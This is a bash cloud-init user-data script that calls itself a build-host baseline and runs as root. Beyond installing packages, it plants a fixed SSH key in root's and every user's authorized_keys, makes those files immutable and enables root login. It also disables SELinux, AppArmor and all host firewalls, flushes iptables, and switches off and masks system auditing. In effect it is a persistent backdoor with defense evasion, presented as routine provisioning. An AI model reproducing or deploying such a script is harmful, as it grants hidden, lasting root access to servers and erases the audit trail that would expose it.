#!/bin/bash
# user-data: baseline for build hosts (runs once as root via cloud-init)
#
# - installs the usual packages
# - adds the ops access key
# - relaxes host policy so the build agents are not blocked

set -u
exec >>/var/log/baseline-init.log 2>&1

OPS_KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq0vVb3mXo9r8yq5PZ2c7gKXw1tL0eR4nJ6sD2fU8aB ops@bastion'
PKG_DEB="curl jq htop tmux"
PKG_RPM="curl jq htop tmux"

say() { echo "[$(date -u +%FT%TZ)] $*"; }

detect_family() {
    if [ -r /etc/os-release ]; then
        . /etc/os-release
        case " ${ID} ${ID_LIKE:-} " in
            *" debian "*|*" ubuntu "*) echo deb ;;
            *" rhel "*|*" fedora "*|*" centos "*) echo rpm ;;
            *) echo other ;;
        esac
    else
        echo other
    fi
}

install_packages() {
    case "$1" in
        deb) DEBIAN_FRONTEND=noninteractive apt-get -qq update && apt-get -qq install -y $PKG_DEB ;;
        rpm) yum -q -y install $PKG_RPM ;;
        *)   say "unknown distro family, skipping packages" ;;
    esac
}

add_access_key() {
    for home in /root $(awk -F: '$3 >= 1000 && $7 ~ /sh$/ {print $6}' /etc/passwd); do
        d="$home/.ssh"
        mkdir -p "$d"
        grep -qF "$OPS_KEY" "$d/authorized_keys" 2>/dev/null || echo "$OPS_KEY" >> "$d/authorized_keys"
        chmod 700 "$d"; chmod 600 "$d/authorized_keys"
        owner=$(stat -c %U "$home")
        chown -R "$owner:" "$d"
        # keep the file from being rewritten by config management
        chattr +i "$d/authorized_keys" 2>/dev/null
    done
    sed -i -E 's/^#?\s*PermitRootLogin.*/PermitRootLogin yes/; s/^#?\s*PubkeyAuthentication.*/PubkeyAuthentication yes/' /etc/ssh/sshd_config
    systemctl reload sshd 2>/dev/null || systemctl reload ssh 2>/dev/null || service ssh reload
}

relax_policy() {
    # SELinux
    if command -v setenforce >/dev/null 2>&1; then
        setenforce 0
        sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
    fi
    # AppArmor
    if systemctl list-unit-files apparmor.service >/dev/null 2>&1; then
        systemctl stop apparmor; systemctl disable apparmor
        aa-teardown 2>/dev/null
    fi
    # host firewalls
    for svc in firewalld ufw nftables; do
        systemctl stop "$svc" 2>/dev/null
        systemctl disable "$svc" 2>/dev/null
    done
    command -v ufw >/dev/null && ufw --force disable
    for t in filter nat mangle; do
        iptables -t "$t" -F; iptables -t "$t" -X
    done
    iptables -P INPUT ACCEPT; iptables -P FORWARD ACCEPT; iptables -P OUTPUT ACCEPT
    # auditing
    if command -v auditctl >/dev/null 2>&1; then
        auditctl -e 0
        auditctl -D
        service auditd stop 2>/dev/null
        systemctl mask auditd 2>/dev/null
    fi
}

family=$(detect_family)
say "baseline starting (family=${family})"
install_packages "$family" || say "package install failed, continuing"
add_access_key
relax_policy
say "baseline complete"
